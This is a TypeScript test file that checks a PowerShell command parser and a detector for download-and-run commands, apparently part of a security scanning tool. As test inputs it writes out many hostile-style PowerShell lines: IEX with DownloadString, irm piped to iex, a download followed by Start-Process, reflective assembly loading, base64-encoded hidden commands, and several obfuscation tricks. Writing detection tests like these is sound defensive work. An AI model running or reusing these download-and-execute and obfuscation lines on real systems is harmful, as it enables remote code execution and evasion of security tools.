import { describe, expect, test } from "vitest";
import { HOLE } from "../../../../main/python/facts.ts";
import { encodedCommand, encodedScript } from "../../../../main/rules/support/powershell/encoded-command.ts";
import { readPowershell } from "../../../../main/rules/support/powershell/read.ts";
import { commandsOfPowershell, commandsOfShell } from "../../../../main/rules/support/shell/commands.ts";
import { downloadAndRun } from "../../../../main/rules/support/shell/download.ts";

/** Words of every command, joined; pipes and uses behind them. */
function shown(script: string): string[] {
	return readPowershell(script).map(
		({ words, pipedTo, usedBy }) =>
			words.join(" ").replaceAll(HOLE, "…") +
			(pipedTo === undefined ? "" : ` | ${pipedTo}`) +
			(usedBy === undefined ? "" : ` > ${usedBy}`),
	);
}

describe("commands of PowerShell", () => {
	test.each<[string, string[]]>([
		[
			"IEX (New-Object Net.WebClient).DownloadString('https://example.com/x')",
			["New-Object Net.WebClient > 1", "downloadstring https://example.com/x > 2", "IEX …"],
		],
		[
			`$u='https://example.com/a.exe'; $p="$env:TEMP\\a.exe"; (New-Object System.Net.WebClient).DownloadFile($u,$p); Start-Process $p`,
			[
				"New-Object System.Net.WebClient > 1",
				"downloadfile https://example.com/a.exe %TEMP%\\a.exe",
				"Start-Process %TEMP%\\a.exe",
			],
		],
		["irm https://example.com/i.ps1 | iex", ["irm https://example.com/i.ps1 | 1", "iex …"]],
		["I`E`X ('whoa' + 'mi')", ["IEX whoami"]],
		["& ($env:ComSpec[4,24,25] -join '') 'whoami'", ["Iex whoami"]],
		["&('{1}{0}' -f 'EX','I') ('a','b' -join '')", ["IEX ab"]],
		["('IEX') | % { & $_ 'x' }", ["IEX x > 1", "% "]],
		["[char]105 + [char]101 + [char]120", []],
		["iex ([char[]](119,104,111) -join '')", ["iex who"]],
		["iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))", ["iex whoami"]],
		["iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8A')))", ["iex who"]],
		["iex 'wXhXo'.Replace('X', '')", ["iex who"]],
		["iex ('ohw'[-1..-3] -join '')", ["iex who"]],
		["[ScriptBlock]::Create('whoami').Invoke()", ["iex whoami"]],
		["[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)", ["reflection-load …"]],
		[
			"$w = New-Object -ComObject WScript.Shell; $w.Run('calc.exe', 0)",
			["New-Object -ComObject WScript.Shell > 1", "run calc.exe 0"],
		],
		["if (Test-Path x) { whoami } else { .\\b.exe }", ["Test-Path x", "whoami", ".\\b.exe"]],
		["function f { whoami }\nf 'a'", ["whoami", "f a"]],
		['"got $(whoami) and $x"', ["whoami"]],
		["@'\nIEX none\n'@ | Out-File a.ps1", ["Out-File a.ps1"]],
		["# iex a\n<# iex b #> hostname", ["hostname"]],
		["Get-Date `\n -Format o", ["Get-Date -Format o"]],
		["[Environment]::GetFolderPath('Startup') | Out-Null", ["Out-Null"]],
		[
			"curl.exe -f https://example.com/b -o b.exe; cmd /c b.exe",
			["curl.exe -f https://example.com/b -o b.exe", "cmd /c b.exe"],
		],
	])("%s", (script, expected) => {
		expect(shown(script)).toEqual(expected);
	});

	test("stand where they are written, also those inside of a string", () => {
		const script = 'hostname\n  whoami /all\n"$(id)"';
		expect(readPowershell(script).map(({ start, end }) => script.slice(start, end))).toEqual([
			"hostname",
			"whoami /all",
			'"$(id)"',
		]);
	});

	test("hostile text ends", () => {
		for (const piece of ["(", "[int]", "!", "{", "$(", "'a'+", "a|", '"$(', "@(", "$x[", "&("]) {
			expect(readPowershell(piece.repeat(20_000)).length).toBeLessThanOrEqual(400);
		}
		expect(readPowershell("iex ('a' * 999999999)")).toHaveLength(1);
		expect(readPowershell("iex (1..999999999)")).toHaveLength(1);
	});
});

describe("encoded commands", () => {
	const encoded = Buffer.from("IEX (iwr https://example.com/a)", "utf16le").toString("base64");

	test.each(["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-eNcOdEdC"])("are found behind %s", (option) => {
		expect(encodedCommand(["powershell", "-nop", option, encoded])).toBe(encoded);
	});

	test("are read as PowerShell inside of a shell text", () => {
		expect(encodedScript(encoded)).toBe("IEX (iwr https://example.com/a)");
		expect(
			commandsOfShell(`cmd /c start /b powershell -w hidden -enc ${encoded}`).map(({ program }) => program),
		).toEqual(["cmd", "powershell", "iwr", "iex"]);
	});

	test("that are none give nothing", () => {
		expect(encodedCommand(["powershell", "-ExecutionPolicy", "Bypass"])).toBeUndefined();
		expect(encodedScript("%SCRIPT%")).toBeUndefined();
		expect(encodedScript("aGVsbG8gd29ybGQ=")).toBeUndefined();
	});
});

describe("download and run in PowerShell", () => {
	test.each([
		"IEX (New-Object Net.WebClient).DownloadString('https://example.com/x')",
		"$c = (iwr -useb https://example.com/x).Content\niex $c",
		"(New-Object Net.WebClient).DownloadFile('https://example.com/a.exe', 'a.exe'); Start-Process a.exe",
		"Start-BitsTransfer -Source https://example.com/a.exe -Destination a.exe\n.\\a.exe",
		"$b = (New-Object Net.WebClient).DownloadData('https://example.com/x'); [Reflection.Assembly]::Load($b)",
		"iwr https://example.com/a.exe -OutFile $env:TEMP\\a.exe; saps $env:TEMP\\a.exe -WindowStyle Hidden",
	])("found: %s", (script) => {
		expect(downloadAndRun(commandsOfPowershell(script))).toBeDefined();
	});

	test.each([
		"(New-Object Net.WebClient).DownloadFile('https://example.com/a.zip', 'a.zip'); Expand-Archive a.zip",
		"$r = Invoke-RestMethod https://example.com/api\nWrite-Output $r.version",
		"Start-Process notepad.exe",
	])("left alone: %s", (script) => {
		expect(downloadAndRun(commandsOfPowershell(script))).toBeUndefined();
	});
});
